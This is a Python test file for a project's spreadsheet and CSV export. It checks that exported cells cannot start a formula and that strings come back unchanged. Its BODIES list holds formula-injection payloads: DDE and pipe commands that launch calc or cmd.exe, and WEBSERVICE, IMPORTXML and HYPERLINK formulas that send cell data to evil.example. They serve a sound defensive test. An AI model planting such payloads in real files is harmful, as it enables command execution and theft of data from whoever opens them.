"""No cell that goes out begins a formula, and every string comes back as it went (T6)."""

import ast
import csv
import io
import re
from io import BytesIO
from itertools import islice, product
from pathlib import Path
from zipfile import ZipFile

import pytest
import xlsxwriter

from jinguo.console.output import put
from jinguo.exchange.importing import take
from jinguo.exchange.pages import book
from jinguo.exchange.sheets import read
from jinguo.ledger.drafts import By
from jinguo.ledger.models import Activity
from tests.exchange.books import exported, wipe
from tests.factories import City, enter_one

ROOT = Path(__file__).parents[2]
_PLAIN_TABLES = {
    "jinguo/console/output.py", "jinguo/web/journals.py", "jinguo/exchange/exporting.py",
}  # fmt: skip
"""What writes tables of plain text; a sign that begins a formula gets a quote before it."""
STARTS = [
    *"=+-@＝＋－＠|%",
    *(f"\u3000{each}" for each in "=＝"),
    " =",
    "'=",
    '"=',
    ";=",
    "==",
    "+-",
]
BODIES = [
    "1+1", 'HYPERLINK("http://evil.example","请点")', "cmd|' /C calc'!A0", "SUM(1,2)",
    'DDE("cmd","/C calc","x")', 'WEBSERVICE("http://evil.example/"&A1)', "A1", "0", "2020年",
    'IMPORTXML(CONCAT("http://evil.example/",A1),"//a")', "宣讲", "<script>", "&lt;", "13800000000",
    "_x000D_", "𠮷", "'", '"', "{=1}", "[x]y!A1", "MSEXCEL|'\\..\\cmd.exe /c calc'!''", "1e9", "",
]  # fmt: skip
TAILS = [*map(str, range(20))]


def strings(count: int) -> list[str]:
    """Return so many different strings, each of which some program takes for a formula."""
    made = (f"{a}{b}{c}" for c, b, a in product(TAILS, BODIES, STARTS))
    return list(dict.fromkeys(islice(made, count)))


def written(cells: list[str]) -> bytes:
    file = BytesIO()
    with book(file) as add:
        page = add("试")
        for cell in cells:
            page.write([cell])
    return file.getvalue()


def unguarded(content: bytes) -> list[str]:
    """Return the cells of a workbook that are formulas, or begin one and are not marked as text."""
    with ZipFile(BytesIO(content)) as archive:
        sheets = "".join(
            archive.read(name).decode()
            for name in archive.namelist()
            if name.startswith("xl/worksheets/")
        )
        shared = archive.read("xl/sharedStrings.xml").decode() if (
            "xl/sharedStrings.xml" in archive.namelist()
        ) else ""  # fmt: skip
        styles = archive.read("xl/styles.xml").decode()
    formats = re.findall(r"<xf [^>]*/?>", styles.split("<cellXfs", 1)[1].split("</cellXfs>")[0])
    texts = re.findall(r"<si><t[^>]*>(.*?)</t></si>", shared, re.DOTALL)
    bad = re.findall(r"<f[ >].*?</f>", sheets)
    for style, kind, inside in re.findall(
        r'<c r="\w+"(?: s="(\d+)")?(?: t="(\w+)")?>(.*?)</c>', sheets, re.DOTALL
    ):
        text = _text(kind, inside, texts)
        risky = re.match(r"[\s\u3000]*[=+\-@＝＋－＠|%]|[\t\r]", text or "")
        if kind and risky and "quotePrefix" not in formats[int(style or 0)]:
            bad.append(text)
    return bad


def _text(kind: str, inside: str, texts: list[str]) -> str:
    if kind == "s":
        return texts[int(re.findall(r"<v>(\d+)</v>", inside)[0])]
    return "".join(re.findall(r"<t[^>]*>(.*?)</t>", inside, re.DOTALL))


def test_five_thousand_strings_go_out_as_text_and_come_back_the_same() -> None:
    cells = strings(5000)
    content = written(cells)
    [sheet] = read(content)

    assert len(cells) == 5000
    assert unguarded(content) == []
    assert [row[0] for row in sheet.rows] == cells


def test_a_tab_or_a_line_end_begins_no_formula_either() -> None:
    assert unguarded(written([f"{start}=1+1" for start in ("\t", "\r", "\n", "\r\n", " \t")])) == []


def test_the_search_for_bare_cells_finds_one() -> None:
    file = BytesIO()
    workbook = xlsxwriter.Workbook(file, {"constant_memory": True})
    sheet = workbook.add_worksheet()
    sheet.write_string(0, 0, "＝1+1")
    sheet.write_formula(1, 0, "=1+1")
    workbook.close()

    assert len(unguarded(file.getvalue())) == 2


def test_records_keep_their_titles_through_the_ledgers_own_workbook(city: City, by: By) -> None:
    titles = [each for each in strings(4000)[:: 4000 // 60] if each.strip() == each]
    for title in titles:
        enter_one("activity", city.units["一村"], title=title, venue=title)
    before = sorted(Activity.objects.values_list("title", "venue"))

    content, _ = exported(city.units["演示市"])
    wipe()
    taken = take(content, by=by)

    assert unguarded(content) == []
    assert taken.faults == []
    assert sorted(Activity.objects.values_list("title", "venue")) == before


def test_a_printed_table_for_spreadsheets_begins_no_formula(
    capsys: pytest.CaptureFixture[str],
) -> None:
    cells = strings(5000)

    put([{"a": cell} for cell in cells], {}, form="csv")

    told = [row[0] for row in csv.reader(io.StringIO(capsys.readouterr().out))][1:]
    # A quote stands before a cell or does not; nothing else of it differs.
    pairs = zip(told, cells, strict=True)
    assert [cell for cell, sent in pairs if cell not in (sent, f"'{sent}")] == []
    assert [cell for cell in told if re.match(r"[\s\u3000]*[=+\-@＝＋－＠|%]", cell)] == []


def test_every_workbook_goes_through_the_one_writer() -> None:
    """Nothing else makes a workbook, and there is no export in any other form of table."""
    makers = {
        file.relative_to(ROOT).as_posix()
        for file in (ROOT / "jinguo").rglob("*.py")
        for node in ast.walk(ast.parse(file.read_text(encoding="utf-8")))
        if isinstance(node, ast.Attribute)
        and ast.unparse(node) in ("xlsxwriter.Workbook", "csv.writer")
    }

    assert makers - _PLAIN_TABLES == {"jinguo/exchange/pages.py"}
